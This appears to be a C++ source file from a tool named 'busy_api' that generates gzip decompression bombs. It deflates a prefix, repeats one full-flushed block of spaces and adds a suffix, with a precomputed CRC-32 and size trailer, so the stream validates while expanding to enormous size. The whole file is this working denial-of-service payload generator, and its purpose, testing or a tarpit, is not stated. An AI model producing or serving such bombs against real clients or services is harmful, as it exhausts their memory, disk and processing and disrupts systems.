#include "tools/busy_api/gzip_bomb.h"

#include <array>

#include "boost/asio/buffer.hpp"
#include "boost/beast/zlib/deflate_stream.hpp"

namespace lull {
namespace {

namespace zlib = boost::beast::zlib;

constexpr size_t kBlockBytes = 256 << 10;

std::array<uint32_t, 256> MakeCrcTable() {
  std::array<uint32_t, 256> table;
  for (uint32_t i = 0; i < table.size(); ++i) {
    uint32_t value = i;
    for (int bit = 0; bit < 8; ++bit) value = (value >> 1) ^ (value & 1 ? 0xedb88320u : 0);
    table[i] = value;
  }
  return table;
}

uint32_t UpdateCrc(uint32_t state, absl::string_view bytes) {
  static const std::array<uint32_t, 256> table = MakeCrcTable();
  for (const char c : bytes) state = (state >> 8) ^ table[(state ^ static_cast<uint8_t>(c)) & 0xff];
  return state;
}

// The CRC's state after a block is an affine function of the state before it. Working that out for
// each of the 32 bits once is much faster than running over a gigabyte of spaces.
uint32_t UpdateCrcByBlocks(uint32_t state, absl::string_view block, int64_t blocks) {
  const uint32_t of_zero = UpdateCrc(0, block);
  std::array<uint32_t, 32> of_bit;
  for (int bit = 0; bit < 32; ++bit) of_bit[bit] = UpdateCrc(1u << bit, block) ^ of_zero;
  for (int64_t i = 0; i < blocks; ++i) {
    uint32_t next = of_zero;
    for (int bit = 0; bit < 32; ++bit) {
      if (state >> bit & 1) next ^= of_bit[bit];
    }
    state = next;
  }
  return state;
}

// A piece of raw deflate that stands on its own and ends at a whole byte.
std::string Deflate(absl::string_view bytes, zlib::Flush flush) {
  zlib::deflate_stream stream;
  stream.reset(9, 15, 8, zlib::Strategy::normal);
  std::string out(bytes.size() + 1024, '\0');
  zlib::z_params params;
  params.next_in = bytes.data();
  params.avail_in = bytes.size();
  params.next_out = out.data();
  params.avail_out = out.size();
  boost::beast::error_code error;
  stream.write(params, flush, error);
  out.resize(params.total_out);
  return out;
}

void AppendLittleEndian(uint32_t value, std::string* out) {
  for (int shift = 0; shift < 32; shift += 8) out->push_back(static_cast<char>(value >> shift));
}

}  // namespace

GzipBomb MakeGzipBomb(absl::string_view prefix, int64_t spaces, absl::string_view suffix) {
  const std::string block(kBlockBytes, ' ');
  const int64_t block_bytes = static_cast<int64_t>(block.size());
  GzipBomb bomb;
  bomb.blocks = (spaces + block_bytes - 1) / block_bytes;
  bomb.head = std::string("\x1f\x8b\x08\x00\x00\x00\x00\x00\x02\x03", 10);
  // A full flush forgets what came before, so the same compressed block may follow itself.
  bomb.head += Deflate(prefix, zlib::Flush::full);
  bomb.block = Deflate(block, zlib::Flush::full);
  bomb.tail = Deflate(suffix, zlib::Flush::finish);
  uint32_t crc = UpdateCrc(0xffffffffu, prefix);
  crc = UpdateCrcByBlocks(crc, block, bomb.blocks);
  crc = UpdateCrc(crc, suffix) ^ 0xffffffffu;
  AppendLittleEndian(crc, &bomb.tail);
  const int64_t size =
      static_cast<int64_t>(prefix.size() + suffix.size()) + bomb.blocks * block_bytes;
  AppendLittleEndian(static_cast<uint32_t>(size), &bomb.tail);
  return bomb;
}

}  // namespace lull
